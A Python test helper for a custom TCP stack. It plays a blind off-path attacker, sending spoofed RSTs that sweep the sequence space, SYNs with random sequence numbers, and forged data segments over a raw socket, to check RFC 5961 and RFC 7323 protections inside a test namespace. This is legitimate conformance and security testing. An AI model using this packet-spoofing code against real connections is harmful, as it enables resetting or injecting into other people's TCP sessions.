"""A blind off-path attacker (RFC 5961 section 1.2's threat model) for tests/test_attacks_netns.py.
Run inside the attacker namespace: it knows each victim connection's 4-tuple, never its
sequence numbers, and sends through a raw socket (spoofed source addresses):

  - RSTs sweeping the whole 32-bit sequence space in steps of STEP (smaller than the receive
    window, so a few land in-window every sweep: RFC 5961 3.2 must answer a challenge ACK);
  SYNs and data carry a timestamp option with a random TSval, since a segment without one
  is dropped silently on a connection with timestamps (RFC 7323 3.2), and half of the random
  values pass PAWS (RFC 7323 5.3).

  - SYNs with random sequence numbers (RFC 5961 4.2: challenge ACK, never a reset);
  - data segments sweeping the sequence space with random acknowledgment numbers (RFC 5961
    5.2: an unacceptable ACK field drops the segment; bytes must never be delivered).

Input (stdin, JSON): {"targets": [[src, dst, sport, dport], ...], "step": int, "syns": int,
"seed": int}.  Output (stdout, JSON): how many of each were sent.
"""
from __future__ import annotations

import json
import random
import socket
import sys
import time

from tcpstack.segment import ACK, PSH, RST, SYN, TCPSegment
from tcpstack.tcp import build_ip_tcp


def packets(targets: list[list], step: int, syns: int, rng: random.Random) -> tuple[list, dict]:
    out: list[tuple[bytes, str]] = []
    counts = {"rst": 0, "syn": 0, "data": 0}
    for src, dst, sport, dport in targets:
        s, d = socket.inet_aton(src), socket.inet_aton(dst)
        base = rng.getrandbits(32)
        for k in range(0, 1 << 32, step):
            seq = (base + k) & 0xFFFFFFFF
            out.append((build_ip_tcp(TCPSegment(sport, dport, seq, 0, RST, 0), s, d), dst))
            counts["rst"] += 1
        for _ in range(syns):
            out.append((build_ip_tcp(TCPSegment(sport, dport, rng.getrandbits(32), 0, SYN, 65535,
                                                mss=1460, tsval=rng.getrandbits(32), tsecr=0),
                                     s, d), dst))
            counts["syn"] += 1
        base = rng.getrandbits(32)
        for k in range(0, 1 << 32, step * 2):
            seg = TCPSegment(sport, dport, (base + k) & 0xFFFFFFFF, rng.getrandbits(32),
                             ACK | PSH, 65535, payload=b"FORGED-BYTES" * 8,
                             tsval=rng.getrandbits(32), tsecr=rng.getrandbits(32))
            out.append((build_ip_tcp(seg, s, d), dst))
            counts["data"] += 1
    rng.shuffle(out)
    return out, counts


def main() -> int:
    spec = json.load(sys.stdin)
    rng = random.Random(spec["seed"])
    pkts, counts = packets(spec["targets"], spec["step"], spec["syns"], rng)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    t0 = time.monotonic()
    sent = 0
    for i, (p, dst) in enumerate(pkts):
        while True:
            try:
                raw.sendto(p, (dst, 0))
                sent += 1
                break
            except OSError:                   # ENOBUFS: the victims' TUN queue is full
                time.sleep(0.001)
        if i % 100 == 99:
            time.sleep(0.004)                 # ~20,000 packets/s: an attack, not a DoS
    counts.update(sent=sent, seconds=round(time.monotonic() - t0, 2))
    print(json.dumps(counts))
    return 0


if __name__ == "__main__":
    sys.exit(main())
